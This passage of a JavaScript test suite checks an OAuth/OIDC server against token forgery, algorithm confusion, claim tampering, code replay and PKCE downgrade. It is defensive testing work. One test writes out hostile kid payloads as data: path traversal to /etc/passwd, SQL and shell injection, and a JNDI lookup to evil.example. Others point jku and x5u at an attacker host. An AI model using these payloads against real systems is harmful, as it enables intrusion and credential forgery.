// The attack battery: one test per attack, each named after it, each asserting that
// the attack fails and, where it matters, that the legitimate flow still works.
// Some of these are also covered, spread out, in other files; this file keeps every
// attack in one place. Forged tokens that should differ from a real one in a single
// respect are signed with the server's REAL private key (read from the data
// directory), so only the claim under test is wrong; a control token re-signed with
// the same key must pass, which proves the oracle works.
//
// Every token, code, cookie, CSRF token, verifier and password this file issues or
// sends is remembered; the last test greps both servers' logs for each of them.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import { access, readFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import {
  startServer, baseConfig, demoClient, backendClient, clientConfig, Browser, req, raw, rawSocket, authorize, redeemCode,
  tokenRequest, refresh, revoke, resolve, authorizeUrl, pkce, randomString, parseForm, parseForms, parseSetCookie, isClearing,
  decodeJwt, signJwt, b64url, getJson, nowSec, sleep, signingKey, DEMO_REDIRECT, DEMO_POST_LOGOUT,
  BACKEND_REDIRECT, BACKEND_SECRET,
} from './harness.mjs';

const ALICE_PASSWORD = 'attack-battery-alice-Pa55-9Kq2';
const BOB_PASSWORD = 'attack-battery-bob-Pa55-4Tz7';
const SPA2_REDIRECT = 'http://127.0.0.1:4002/callback';
const SECURE_ORIGIN = 'https://id.example.test';
// A marker file that a shell-injection payload in `kid` would create.
const MARKER = path.join(os.tmpdir(), `latchkey-kid-injection-${process.pid}-${crypto.randomBytes(4).toString('hex')}`);

// ---------------------------------------------------------------------------
// every secret the file handles, for the log test

const seen = new Map();
function remember(what, value) {
  if (typeof value === 'string' && value.length >= 12) seen.set(`${what} #${seen.size}`, value);
  return value;
}
function rememberTokens(what, t) {
  for (const k of ['access_token', 'refresh_token', 'id_token']) {
    if (!t?.[k]) continue;
    remember(`${what} ${k}`, t[k]);
    if (k === 'refresh_token') remember(`${what} refresh secret`, t[k].split('.').slice(1).join('.'));
    else remember(`${what} ${k} signature`, t[k].split('.')[2]);
  }
  return t;
}
function rememberBrowser(what, b) {
  const s = b.cookie('session');
  if (s) { remember(`${what} session cookie`, s); remember(`${what} session secret`, s.split('.').slice(1).join('.')); }
  remember(`${what} csrf cookie`, b.cookie('csrf'));
}
remember('alice password', ALICE_PASSWORD);
remember('bob password', BOB_PASSWORD);
remember('client secret', BACKEND_SECRET);

// ---------------------------------------------------------------------------
// helpers

const CLIENT_REDIRECT = { demo: DEMO_REDIRECT, backend: BACKEND_REDIRECT, spa2: SPA2_REDIRECT };

/** Log in through the form and redeem the code; remembers every secret on the way. */
async function signIn(origin, { username = 'alice', clientId = 'demo', browser, pkce: withPkce, extra } = {}) {
  const password = username === 'bob' ? BOB_PASSWORD : ALICE_PASSWORD;
  const a = await authorize(origin, {
    username, password, clientId, redirectUri: CLIENT_REDIRECT[clientId], browser, pkce: withPkce, extra,
  });
  remember('code', a.code);
  remember('code verifier', a.verifier);
  rememberBrowser('login', a.browser);
  const r = await redeemCode(origin, withPkce === false ? { ...a, verifier: undefined } : a);
  assert.equal(r.status, 200, `code redemption: ${r.status} ${r.text}`);
  const tokens = rememberTokens('login', r.json());
  return { ...a, tokens, cookie: a.browser.cookie('session') };
}

async function sessionValid(origin, cred) {
  return (await resolve(origin, cred)).ag['x-authgear-session-valid'];
}

function onlyInvalid(r, what) {
  assert.equal(r.status, 200, `${what}: resolver status ${r.status}`);
  assert.deepEqual(r.ag, { 'x-authgear-session-valid': 'false' }, `${what}: only Session-Valid false (got ${JSON.stringify(r.ag)})`);
}

/**
 * A forged access token must be refused everywhere a bearer token is accepted: the
 * resolver (normal and strict), userinfo, and revocation (a no-op, checked by the
 * caller's control).
 */
async function assertRefused(origin, token, what) {
  remember(`forged ${what}`, token);
  onlyInvalid(await resolve(origin, { bearer: token }), what);
  const strict = await resolve(origin, { bearer: token, query: '?strict=true' });
  assert.equal(strict.status, 401, `${what}: strict resolver ${strict.status}`);
  assert.equal(strict.ag['x-authgear-user-id'], undefined, `${what}: strict resolver names no user`);
  const ui = await req(new URL('/oauth2/userinfo', origin), { bearer: token });
  assert.equal(ui.status, 401, `${what}: userinfo ${ui.status} ${ui.text.slice(0, 200)}`);
  assert.match(ui.headers.get('www-authenticate') ?? '', /invalid_token/, `${what}: userinfo WWW-Authenticate`);
  const rv = await revoke(origin, token);
  assert.equal(rv.status, 200, `${what}: revoke answers 200 (no-op) for a token that is not ours`);
}

/** A token built from parts, with an arbitrary (or no) signature. */
function unsigned(header, payload, signature = '') {
  return `${b64url(JSON.stringify(header))}.${b64url(JSON.stringify(payload))}.${signature}`;
}

function hmacJwt(alg, header, payload, secret) {
  const input = `${b64url(JSON.stringify({ ...header, alg }))}.${b64url(JSON.stringify(payload))}`;
  const digest = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' }[alg];
  return `${input}.${b64url(crypto.createHmac(digest, secret).update(input).digest())}`;
}

function rsaJwt(alg, header, payload, privateKey) {
  const input = Buffer.from(`${b64url(JSON.stringify({ ...header, alg }))}.${b64url(JSON.stringify(payload))}`);
  const opts = {
    RS256: ['sha256', { key: privateKey }],
    RS384: ['sha384', { key: privateKey }],
    RS512: ['sha512', { key: privateKey }],
    PS256: ['sha256', { key: privateKey, padding: crypto.constants.RSA_PKCS1_PSS_PADDING, saltLength: 32 }],
  }[alg];
  return `${input}.${b64url(crypto.sign(opts[0], input, opts[1]))}`;
}

function flipChar(s, i) {
  const c = s[i] === 'A' ? 'B' : 'A';
  return `${s.slice(0, i)}${c}${s.slice(i + 1)}`;
}

function cookieNamed(res, name) {
  return res.setCookies.map(parseSetCookie).find((c) => c.name === name);
}

function assertHtml400(res, what) {
  assert.equal(res.status, 400, `${what}: status ${res.status} location=${res.location} body=${res.text.slice(0, 200)}`);
  assert.equal(res.location, null, `${what}: never a Location (got ${res.location})`);
  assert.match(res.headers.get('content-type') ?? '', /text\/html/, `${what}: the HTML error page`);
  assert.equal(cookieNamed(res, 'session'), undefined, `${what}: no session cookie`);
}

function authParams(extra = {}) {
  const { verifier, challenge } = pkce();
  remember('pkce verifier', verifier);
  return {
    response_type: 'code',
    client_id: 'demo',
    redirect_uri: DEMO_REDIRECT,
    scope: 'openid offline_access',
    state: randomString(),
    code_challenge: challenge,
    code_challenge_method: 'S256',
    ...extra,
  };
}

function formOf(params) {
  return Object.fromEntries(Object.entries(params).filter(([, v]) => v !== undefined));
}

function endSessionUrl(origin, params) {
  const u = new URL('/oauth2/end_session', origin);
  for (const [k, v] of Object.entries(params)) if (v !== undefined) u.searchParams.set(k, v);
  return u.toString();
}

describe('attack battery', { timeout: 240000 }, () => {
  let srv; // http origin, debug logs
  let secure; // https public origin, JSON logs
  let key; // the server's real signing key
  let jwks;

  before(async () => {
    const clients = [
      demoClient(),
      backendClient(),
      clientConfig({ client_id: 'spa2', name: 'Second SPA', redirect_uris: [SPA2_REDIRECT], post_logout_redirect_uris: ['http://127.0.0.1:4002/'] }),
    ];
    srv = await startServer({
      users: [{ username: 'alice', password: ALICE_PASSWORD }, { username: 'bob', password: BOB_PASSWORD, verified: true, roles: ['admin'] }],
      config: (o) => baseConfig(o, { jwt: { time_tolerance_seconds: 60 }, clients }),
      serveEnv: { LATCHKEY_LOG: 'debug' },
    });
    secure = await startServer({
      users: [{ username: 'alice', password: ALICE_PASSWORD }],
      config: () => baseConfig(SECURE_ORIGIN, { clients }),
      serveArgs: ['--log-format', 'json'],
    });
    key = await signingKey(srv.dataDir);
    jwks = await getJson(srv.url('/oauth2/jwks'));
    assert.ok(jwks.keys.some((k) => k.kid === key.kid), 'the key read from the secrets file is the published one');
    assert.equal(key.alg, 'RS256');
  });
  after(async () => {
    await srv?.cleanup();
    await secure?.cleanup();
  });

  /** A fresh victim login plus helpers to forge variants of its access token. */
  async function victim() {
    const l = await signIn(srv.origin);
    const { header, payload } = decodeJwt(l.tokens.access_token);
    assert.equal(header.kid, key.kid, 'tokens are signed with the key from the secrets file');
    const resign = (changes = {}, headerChanges = {}) => {
      const p = { ...payload, ...changes };
      for (const [k, v] of Object.entries(changes)) if (v === undefined) delete p[k];
      const h = { ...header, ...headerChanges };
      for (const [k, v] of Object.entries(headerChanges)) if (v === undefined) delete h[k];
      return signJwt(h, p, key.privateKey);
    };
    // The oracle: the same claims re-signed with the real key are accepted.
    assert.equal(await sessionValid(srv.origin, { bearer: resign() }), 'true', 'control: a token re-signed with the real key is valid');
    return { ...l, header, payload, resign };
  }

  async function stillValid(v, what = 'the legitimate token still works') {
    assert.equal(await sessionValid(srv.origin, { bearer: v.tokens.access_token }), 'true', what);
    const ui = await req(srv.url('/oauth2/userinfo'), { bearer: v.tokens.access_token });
    assert.equal(ui.status, 200, `${what} (userinfo ${ui.status})`);
    assert.equal(ui.json().sub, v.payload.sub);
  }

  // -------------------------------------------------------------------------
  // forged and manipulated JWTs

  it('alg: none', async () => {
    const v = await victim();
    const { header, payload } = v;
    const sig = v.tokens.access_token.split('.')[2];
    const cases = {
      'alg none, kid kept': unsigned({ ...header, alg: 'none' }, payload),
      'alg none, no kid': unsigned({ alg: 'none', typ: 'at+jwt' }, payload),
      'alg None': unsigned({ ...header, alg: 'None' }, payload),
      'alg NONE': unsigned({ ...header, alg: 'NONE' }, payload),
      'alg nOnE': unsigned({ ...header, alg: 'nOnE' }, payload),
      'alg none with the real signature kept': unsigned({ ...header, alg: 'none' }, payload, sig),
      'alg none, elevated claims': unsigned({ ...header, alg: 'none' }, { ...payload, sub: srv.userIds.bob, [`https://authgear.com/claims/user/roles`]: ['admin'] }),
      'no alg at all': unsigned({ typ: 'at+jwt', kid: header.kid }, payload),
      'two parts only': unsigned({ ...header, alg: 'none' }, payload).slice(0, -1),
    };
    for (const [what, token] of Object.entries(cases)) await assertRefused(srv.origin, token, what);
    // an unsigned ID token as logout hint revokes nothing
    const idt = decodeJwt(v.tokens.id_token);
    const noneHint = remember('forged id token', unsigned({ ...idt.header, alg: 'none' }, idt.payload));
    const out = await req(endSessionUrl(srv.origin, { id_token_hint: noneHint, client_id: 'demo', post_logout_redirect_uri: DEMO_POST_LOGOUT }));
    assert.ok(out.status < 500, `end_session with an unsigned hint: ${out.status}`);
    await stillValid(v, 'nothing was revoked by unsigned tokens');
  });

  it('HS256 signed with the RSA public key (algorithm confusion)', async () => {
    const v = await victim();
    const jwk = jwks.keys.find((k) => k.kid === v.header.kid);
    const pub = crypto.createPublicKey({ key: jwk, format: 'jwk' });
    const secrets = {
      'JWKS n bytes': Buffer.from(jwk.n, 'base64url'),
      'JWKS n string': Buffer.from(jwk.n, 'utf8'),
      'JWKS e+n bytes': Buffer.concat([Buffer.from(jwk.e, 'base64url'), Buffer.from(jwk.n, 'base64url')]),
      'public key PEM (SPKI)': pub.export({ type: 'spki', format: 'pem' }),
      'public key PEM (SPKI) without the final newline': pub.export({ type: 'spki', format: 'pem' }).trimEnd(),
      'public key PEM (PKCS#1)': pub.export({ type: 'pkcs1', format: 'pem' }),
      'public key DER (SPKI)': pub.export({ type: 'spki', format: 'der' }),
      'public JWK as JSON': JSON.stringify(jwk),
      'the JWKS document': JSON.stringify(jwks),
      'empty secret': Buffer.alloc(0),
    };
    for (const alg of ['HS256', 'HS384', 'HS512']) {
      for (const [what, secret] of Object.entries(secrets)) {
        await assertRefused(srv.origin, hmacJwt(alg, v.header, v.payload, secret), `${alg} keyed with the ${what}`);
      }
    }
    await assertRefused(srv.origin, hmacJwt('HS256', { typ: 'at+jwt' }, v.payload, Buffer.from(jwk.n, 'base64url')), 'HS256 without kid');
    await stillValid(v);
  });

  it('algorithm substitution: other RSA algorithms signed with the real key', async () => {
    const v = await victim();
    for (const alg of ['RS384', 'RS512', 'PS256']) {
      await assertRefused(srv.origin, rsaJwt(alg, v.header, v.payload, key.privateKey), `${alg} with the real key`);
    }
    await stillValid(v);
  });

  it('unknown kid', async () => {
    const v = await victim();
    const { privateKey } = crypto.generateKeyPairSync('rsa', { modulusLength: 2048 });
    const cases = {
      'unknown kid, foreign key': signJwt({ ...v.header, kid: 'unknown-kid' }, v.payload, privateKey),
      'unknown kid, the real key': v.resign({}, { kid: 'unknown-kid' }),
      'no kid, the real key': v.resign({}, { kid: undefined }),
      'empty kid, the real key': v.resign({}, { kid: '' }),
      'kid with a trailing space, the real key': v.resign({}, { kid: `${v.header.kid} ` }),
      'kid upper-cased, the real key': v.resign({}, { kid: v.header.kid.toUpperCase() === v.header.kid ? `${v.header.kid}X` : v.header.kid.toUpperCase() }),
      'kid as a number': v.resign({}, { kid: 1 }),
      'kid as an array': v.resign({}, { kid: [v.header.kid] }),
      'kid as an object': v.resign({}, { kid: { kid: v.header.kid } }),
      'kid null': v.resign({}, { kid: null }),
    };
    for (const [what, token] of Object.entries(cases)) await assertRefused(srv.origin, token, what);
    await stillValid(v);
  });

  it('kid with path traversal and SQL/shell injection payloads', async () => {
    const v = await victim();
    const passwd = await readFile('/etc/passwd').catch(() => Buffer.from(''));
    const kids = [
      '../../../../../../../../etc/passwd',
      '../../../../../../../../dev/null',
      '/dev/null',
      '/etc/passwd',
      '../latchkey.secrets.yaml',
      path.join(srv.dataDir, 'latchkey.secrets.yaml'),
      '..%2f..%2f..%2fetc%2fpasswd',
      'file:///etc/passwd',
      `${v.header.kid}/../${v.header.kid}`,
      `${v.header.kid}\u0000`,
      '\u0000',
      "' OR '1'='1",
      `${v.header.kid}' OR '1'='1`,
      "x' UNION SELECT 1,2,3 --",
      "'; DROP TABLE sessions; --",
      '"; DELETE FROM users; --',
      `$(touch ${MARKER})`,
      `\`touch ${MARKER}\``,
      `; touch ${MARKER}`,
      `| touch ${MARKER}`,
      `&& touch ${MARKER}`,
      '${jndi:ldap://evil.example/a}',
      '{{7*7}}',
      '<script>alert(1)</script>',
      'k'.repeat(2000),
    ];
    for (const kid of kids) {
      const what = `kid ${JSON.stringify(kid.slice(0, 60))}`;
      await assertRefused(srv.origin, v.resign({}, { kid }), `${what}, RS256 with the real key`);
      await assertRefused(srv.origin, hmacJwt('HS256', { ...v.header, kid }, v.payload, Buffer.alloc(0)), `${what}, HS256 with an empty key`);
      if (kid.includes('passwd')) {
        await assertRefused(srv.origin, hmacJwt('HS256', { ...v.header, kid }, v.payload, passwd), `${what}, HS256 keyed with /etc/passwd`);
      }
    }
    // nothing was executed, nothing was dropped, the server is healthy
    await assert.rejects(access(MARKER), `the shell payload created ${MARKER}`);
    assert.equal((await req(srv.url('/healthz'))).status, 200, 'healthz');
    await stillValid(v, 'the victim session survived every payload');
    const again = await signIn(srv.origin, { username: 'bob' });
    assert.equal(await sessionValid(srv.origin, { bearer: again.tokens.access_token }), 'true', 'users and sessions tables still work');
  });

  it('exp in the past (beyond the 60 s tolerance)', async () => {
    const v = await victim();
    const now = nowSec();
    for (const [what, claims] of [
      ['expired 120 s ago', { iat: now - 1920, exp: now - 120 }],
      ['expired an hour ago', { iat: now - 5400, exp: now - 3600 }],
      ['exp 0', { exp: 0 }],
      ['exp removed', { exp: undefined }],
    ]) {
      await assertRefused(srv.origin, v.resign(claims), what);
    }
    assert.equal(await sessionValid(srv.origin, { bearer: v.resign({ exp: now - 20 }) }), 'true', 'legitimate: expired 20 s ago is within the tolerance');
    await stillValid(v);
  });

  it('nbf in the future (beyond the 60 s tolerance)', async () => {
    const v = await victim();
    const now = nowSec();
    for (const [what, claims] of [
      ['nbf in 120 s', { nbf: now + 120 }],
      ['nbf in 10 minutes', { nbf: now + 600 }],
      ['nbf in a year', { nbf: now + 31536000, exp: now + 31537000 }],
    ]) {
      await assertRefused(srv.origin, v.resign(claims), what);
    }
    assert.equal(await sessionValid(srv.origin, { bearer: v.resign({ nbf: now + 20 }) }), 'true', 'legitimate: nbf 20 s ahead is within the tolerance');
    assert.equal(await sessionValid(srv.origin, { bearer: v.resign({ nbf: now - 10 }) }), 'true', 'legitimate: nbf in the past');
    await stillValid(v);
  });

  it('iat in the future (beyond the 60 s tolerance)', async () => {
    const v = await victim();
    const now = nowSec();
    for (const [what, claims] of [
      ['iat in 120 s', { iat: now + 120, exp: now + 1920 }],
      ['iat in 10 minutes', { iat: now + 600, exp: now + 2400 }],
      ['iat in a year', { iat: now + 31536000, exp: now + 31537800 }],
    ]) {
      await assertRefused(srv.origin, v.resign(claims), what);
    }
    assert.equal(await sessionValid(srv.origin, { bearer: v.resign({ iat: now + 20 }) }), 'true', 'legitimate: iat 20 s ahead is within the tolerance');
    await stillValid(v);
  });

  it('wrong iss', async () => {
    const v = await victim();
    const u = new URL(srv.origin);
    for (const [what, iss] of [
      ['another issuer', 'https://evil.example'],
      ['the issuer with a trailing slash', `${srv.origin}/`],
      ['https instead of http', `https://${u.host}`],
      ['localhost instead of 127.0.0.1', `http://localhost:${u.port}`],
      ['the issuer with a path', `${srv.origin}/oauth2`],
      ['the https server\'s issuer', SECURE_ORIGIN],
      ['iss as an array', [srv.origin]],
      ['iss removed', undefined],
    ]) {
      await assertRefused(srv.origin, v.resign({ iss }), what);
    }
    await stillValid(v);
  });

  it('wrong aud', async () => {
    const v = await victim();
    for (const [what, aud] of [
      ['another API', ['https://api.example']],
      ['the client id (what an ID token carries)', ['demo']],
      ['the issuer with a trailing slash', [`${srv.origin}/`]],
      ['the https server\'s issuer', [SECURE_ORIGIN]],
      ['an empty list', []],
      ['aud removed', undefined],
    ]) {
      await assertRefused(srv.origin, v.resign({ aud }), what);
    }
    await stillValid(v);
  });

  it('tampered payload (original signature kept)', async () => {
    const v = await victim();
    const bob = await signIn(srv.origin, { username: 'bob' });
    const [h, , s] = v.tokens.access_token.split('.');
    const tamper = (changes) => `${h}.${b64url(JSON.stringify({ ...v.payload, ...changes }))}.${s}`;
    const cases = {
      'sub changed to another user': tamper({ sub: srv.userIds.bob }),
      'sid changed to another session': tamper({ sid: decodeJwt(bob.tokens.access_token).payload.sid }),
      'sub and sid of another user': tamper({ sub: srv.userIds.bob, sid: decodeJwt(bob.tokens.access_token).payload.sid }),
      'roles elevated': tamper({ 'https://authgear.com/claims/user/roles': ['admin'] }),
      'exp extended by a day': tamper({ exp: v.payload.exp + 86400 }),
      'scope widened': tamper({ scope: `${v.payload.scope} admin` }),
      'client_id changed': tamper({ client_id: 'backend' }),
      'same claims, re-serialised with whitespace': `${h}.${b64url(JSON.stringify(v.payload, null, 1))}.${s}`,
      'payload of another token, this signature': `${h}.${bob.tokens.access_token.split('.')[1]}.${s}`,
      'header changed (typ JWT)': `${b64url(JSON.stringify({ ...v.header, typ: 'JWT' }))}.${v.tokens.access_token.split('.')[1]}.${s}`,
    };
    for (const [what, token] of Object.entries(cases)) await assertRefused(srv.origin, token, what);
    await stillValid(v);
    assert.equal(await sessionValid(srv.origin, { bearer: bob.tokens.access_token }), 'true', 'the other user was not affected');
  });

  it('tampered signature', async () => {
    const v = await victim();
    const bob = await signIn(srv.origin, { username: 'bob' });
    const [h, p, s] = v.tokens.access_token.split('.');
    const sigBytes = Buffer.from(s, 'base64url');
    const flipped = Buffer.from(sigBytes);
    flipped[0] ^= 0x01;
    const cases = {
      'one character flipped in the middle': `${h}.${p}.${flipChar(s, Math.floor(s.length / 2))}`,
      'first byte flipped': `${h}.${p}.${b64url(flipped)}`,
      'truncated by 4 characters': `${h}.${p}.${s.slice(0, -4)}`,
      'one byte short': `${h}.${p}.${b64url(sigBytes.subarray(0, sigBytes.length - 1))}`,
      'one byte appended': `${h}.${p}.${b64url(Buffer.concat([sigBytes, Buffer.from([0])]))}`,
      'empty signature': `${h}.${p}.`,
      'all zero bytes': `${h}.${p}.${b64url(Buffer.alloc(sigBytes.length))}`,
      'another token\'s signature': `${h}.${p}.${bob.tokens.access_token.split('.')[2]}`,
      'standard base64 instead of base64url': `${h}.${p}.${sigBytes.toString('base64')}`,
      'a fourth part appended': `${h}.${p}.${s}.${s}`,
    };
    for (const [what, token] of Object.entries(cases)) await assertRefused(srv.origin, token, what);
    await stillValid(v);
  });

  it('a token signed by another key set', async () => {
    const v = await victim();
    const rsa = crypto.generateKeyPairSync('rsa', { modulusLength: 2048 });
    const ec = crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' });
    const ed = crypto.generateKeyPairSync('ed25519');
    const attackerJwk = { ...rsa.publicKey.export({ format: 'jwk' }), kid: 'attacker-1', alg: 'RS256', use: 'sig' };
    const cases = {
      'foreign RSA key, the server\'s kid': signJwt(v.header, v.payload, rsa.privateKey),
      'foreign RSA key, its own kid': signJwt({ ...v.header, kid: 'attacker-1' }, v.payload, rsa.privateKey),
      'foreign RSA key embedded in the header (jwk)': signJwt({ ...v.header, kid: 'attacker-1', jwk: attackerJwk }, v.payload, rsa.privateKey),
      'foreign RSA key embedded in the header with the server\'s kid': signJwt({ ...v.header, jwk: { ...attackerJwk, kid: v.header.kid } }, v.payload, rsa.privateKey),
      'jku pointing at an attacker JWKS': signJwt({ ...v.header, kid: 'attacker-1', jku: 'https://evil.example/jwks.json' }, v.payload, rsa.privateKey),
      'x5u pointing at an attacker certificate': signJwt({ ...v.header, kid: 'attacker-1', x5u: 'https://evil.example/cert.pem' }, v.payload, rsa.privateKey),
      'foreign EC P-256 key, the server\'s kid': signJwt({ ...v.header, alg: 'ES256' }, v.payload, ec.privateKey),
      'foreign Ed25519 key, the server\'s kid': signJwt({ ...v.header, alg: 'EdDSA' }, v.payload, ed.privateKey),
      'foreign key, elevated claims': signJwt(v.header, { ...v.payload, sub: srv.userIds.bob, 'https://authgear.com/claims/user/roles': ['admin'] }, rsa.privateKey),
    };
    for (const [what, token] of Object.entries(cases)) await assertRefused(srv.origin, token, what);
    // a foreign-signed ID token as a logout hint revokes nothing
    const idt = decodeJwt(v.tokens.id_token);
    const hint = remember('forged id token', signJwt(idt.header, idt.payload, rsa.privateKey));
    const out = await req(endSessionUrl(srv.origin, { id_token_hint: hint, client_id: 'demo', post_logout_redirect_uri: DEMO_POST_LOGOUT }));
    assert.ok(out.status < 500, `end_session with a foreign hint: ${out.status}`);
    await stillValid(v, 'a forged logout hint revoked nothing');
  });

  it('token type confusion: ID token, refresh token or session cookie as an access token', async () => {
    const v = await victim();
    for (const [what, token] of [
      ['ID token', v.tokens.id_token],
      ['refresh token', v.tokens.refresh_token],
      ['session cookie value', v.cookie],
      ['ID token re-signed with typ at+jwt', signJwt({ ...decodeJwt(v.tokens.id_token).header, typ: 'at+jwt' }, decodeJwt(v.tokens.id_token).payload, key.privateKey)],
    ]) {
      remember(what, token);
      onlyInvalid(await resolve(srv.origin, { bearer: token }), what);
      assert.equal((await req(srv.url('/oauth2/userinfo'), { bearer: token })).status, 401, `${what} at userinfo`);
    }
    await stillValid(v);
  });

  // -------------------------------------------------------------------------
  // refresh tokens and codes

  it('a refresh token presented by another client', async () => {
    const demo = await signIn(srv.origin);
    const backend = await signIn(srv.origin, { clientId: 'backend' });
    const spa2 = await signIn(srv.origin, { clientId: 'spa2' });
    const tries = [
      ['demo token by backend (authenticated)', demo.tokens.refresh_token, { clientId: 'backend' }],
      ['demo token by spa2', demo.tokens.refresh_token, { clientId: 'spa2' }],
      ['backend token by demo (public, no secret)', backend.tokens.refresh_token, { clientId: 'demo' }],
      ['backend token by spa2', backend.tokens.refresh_token, { clientId: 'spa2' }],
      ['spa2 token by demo', spa2.tokens.refresh_token, { clientId: 'demo' }],
    ];
    for (const [what, token, opts] of tries) {
      const r = await refresh(srv.origin, token, opts);
      assert.equal(r.status, 400, `${what}: ${r.status} ${r.text}`);
      assert.equal(r.json().error, 'invalid_grant', what);
      assert.equal(r.json().refresh_token, undefined);
      assert.equal(r.json().access_token, undefined);
    }
    const anonymous = await tokenRequest(srv.origin, { grant_type: 'refresh_token', refresh_token: demo.tokens.refresh_token });
    assert.equal(anonymous.status, 401, `no client at all: ${anonymous.status} ${anonymous.text}`);
    assert.equal(anonymous.json().error, 'invalid_client');
    // another client revoking it is a no-op (RFC 7009 §2.1)
    const foreignRevoke = await revoke(srv.origin, demo.tokens.refresh_token, { req: { basic: ['backend', BACKEND_SECRET] } });
    assert.equal(foreignRevoke.status, 200);
    // the owners' flows are untouched: nothing was consumed or revoked
    for (const [what, l, clientId] of [['demo', demo, 'demo'], ['backend', backend, 'backend'], ['spa2', spa2, 'spa2']]) {
      assert.equal(await sessionValid(srv.origin, { bearer: l.tokens.access_token }), 'true', `${what} session alive`);
      const ok = await refresh(srv.origin, l.tokens.refresh_token, { clientId });
      assert.equal(ok.status, 200, `${what} owner refresh: ${ok.text}`);
      rememberTokens(what, ok.json());
    }
  });

  it('authorization code replay', async () => {
    const a = await authorize(srv.origin, { password: ALICE_PASSWORD });
    remember('code', a.code);
    remember('verifier', a.verifier);
    rememberBrowser('replay', a.browser);
    const first = await redeemCode(srv.origin, a);
    assert.equal(first.status, 200, `legitimate first redemption: ${first.text}`);
    const t = rememberTokens('replay victim', first.json());
    assert.equal(await sessionValid(srv.origin, { bearer: t.access_token }), 'true');
    const replay = await redeemCode(srv.origin, a);
    assert.equal(replay.status, 400, `replay: ${replay.status} ${replay.text}`);
    assert.equal(replay.json().error, 'invalid_grant');
    assert.equal(replay.json().access_token, undefined);
    // RFC 6749 §4.1.2: what the code issued is revoked
    assert.equal(await sessionValid(srv.origin, { bearer: t.access_token }), 'false', 'the first redemption\'s access token dies');
    const r = await refresh(srv.origin, t.refresh_token);
    assert.equal(r.status, 400, `the first redemption's refresh token dies: ${r.status}`);
    assert.equal(r.json().error, 'invalid_grant');
    // a replay by another client and a third replay are refused too
    const other = await redeemCode(srv.origin, { ...a, clientId: 'spa2', redirectUri: SPA2_REDIRECT });
    assert.equal(other.status, 400);
    assert.equal(other.json().error, 'invalid_grant');
    assert.equal((await redeemCode(srv.origin, a)).status, 400, 'third try');
    // the browser session that authorized the code still gets new codes that work once
    const again = await authorize(srv.origin, { browser: a.browser, expectForm: false });
    remember('code', again.code);
    const ok = await redeemCode(srv.origin, again);
    assert.equal(ok.status, 200, `a new code works: ${ok.text}`);
    rememberTokens('after replay', ok.json());
  });

  it('PKCE downgrade: code_challenge_method=plain', async () => {
    const { verifier } = pkce();
    remember('plain verifier', verifier);
    const cases = [
      ['public client, method plain', authParams({ code_challenge: verifier, code_challenge_method: 'plain' })],
      ['public client, challenge without a method (defaults to plain)', authParams({ code_challenge: verifier, code_challenge_method: undefined })],
      ['public client, method s256 (not the exact name)', authParams({ code_challenge_method: 's256' })],
      ['confidential client, method plain', authParams({ client_id: 'backend', redirect_uri: BACKEND_REDIRECT, code_challenge: verifier, code_challenge_method: 'plain' })],
    ];
    for (const [what, p] of cases) {
      for (const [how, res] of [
        ['GET', await req(authorizeUrl(srv.origin, formOf(p)))],
        ['POST', await req(srv.url('/oauth2/authorize'), { method: 'POST', form: formOf(p) })],
      ]) {
        assert.equal(res.status, 302, `${what} (${how}): ${res.status}`);
        const u = new URL(res.location);
        assert.equal(`${u.origin}${u.pathname}`, p.redirect_uri, `${what}: error goes to the registered URI`);
        assert.equal(u.searchParams.get('error'), 'invalid_request', `${what} (${how})`);
        assert.equal(u.searchParams.get('code'), null, `${what}: no code`);
      }
    }
    // the login form's hidden method tampered to plain: refused before any code is issued
    const b = new Browser(srv.origin);
    const page = await b.go(authorizeUrl(srv.origin, authParams()));
    assert.equal(page.status, 200);
    rememberBrowser('plain tamper', b);
    const res = await b.submit(page, { username: 'alice', password: ALICE_PASSWORD, code_challenge: verifier, code_challenge_method: 'plain' });
    assert.equal(res.status, 302, `tampered form: ${res.status}`);
    assert.equal(new URL(res.location).searchParams.get('error'), 'invalid_request');
    assert.equal(new URL(res.location).searchParams.get('code'), null);
    // legitimate: S256 works
    await signIn(srv.origin);
  });

  it('PKCE downgrade: a public client without code_challenge or code_verifier', async () => {
    const p = authParams({ code_challenge: undefined, code_challenge_method: undefined });
    for (const res of [await req(authorizeUrl(srv.origin, formOf(p))), await req(srv.url('/oauth2/authorize'), { method: 'POST', form: formOf(p) })]) {
      assert.equal(res.status, 302);
      assert.equal(new URL(res.location).searchParams.get('error'), 'invalid_request');
      assert.equal(new URL(res.location).searchParams.get('code'), null);
    }
    // the challenge stripped from the login form
    const b = new Browser(srv.origin);
    const page = await b.go(authorizeUrl(srv.origin, authParams()));
    const form = parseForm(page.text);
    rememberBrowser('strip tamper', b);
    remember('csrf token', form.fields.csrf_token);
    const fields = { ...form.fields, username: 'alice', password: ALICE_PASSWORD };
    delete fields.code_challenge;
    delete fields.code_challenge_method;
    const res = await b.fetch(srv.url('/oauth2/authorize'), { method: 'POST', form: fields });
    assert.equal(res.status, 302, `stripped challenge: ${res.status}`);
    assert.equal(new URL(res.location).searchParams.get('error'), 'invalid_request');
    assert.equal(new URL(res.location).searchParams.get('code'), null);
    // a code issued with a challenge, redeemed without the verifier or with a wrong one
    for (const [what, verifier] of [['no verifier', undefined], ['a wrong verifier', pkce().verifier], ['the challenge as verifier', null]]) {
      const a = await authorize(srv.origin, { password: ALICE_PASSWORD });
      remember('code', a.code);
      rememberBrowser('pkce', a.browser);
      const challenge = new URL(a.response.url).searchParams.get('code_challenge');
      const r = await redeemCode(srv.origin, { ...a, verifier: verifier === null ? challenge ?? 'x'.repeat(43) : verifier });
      assert.equal(r.status, 400, `${what}: ${r.status} ${r.text}`);
      assert.ok(['invalid_grant', 'invalid_request'].includes(r.json().error), `${what}: ${r.text}`);
      assert.equal(r.json().access_token, undefined);
    }
    await signIn(srv.origin);
  });

  it('PKCE downgrade: a code_verifier for a code issued without a challenge (confidential client)', async () => {
    const a = await authorize(srv.origin, { clientId: 'backend', pkce: false, password: ALICE_PASSWORD });
    remember('code', a.code);
    rememberBrowser('backend', a.browser);
    const r = await redeemCode(srv.origin, a); // a.verifier is sent, but the code has no challenge
    assert.equal(r.status, 400, `verifier without a challenge: ${r.status} ${r.text}`);
    assert.equal(r.json().error, 'invalid_grant');
    assert.equal(r.json().access_token, undefined);
    // legitimate: the confidential client without PKCE and without a verifier
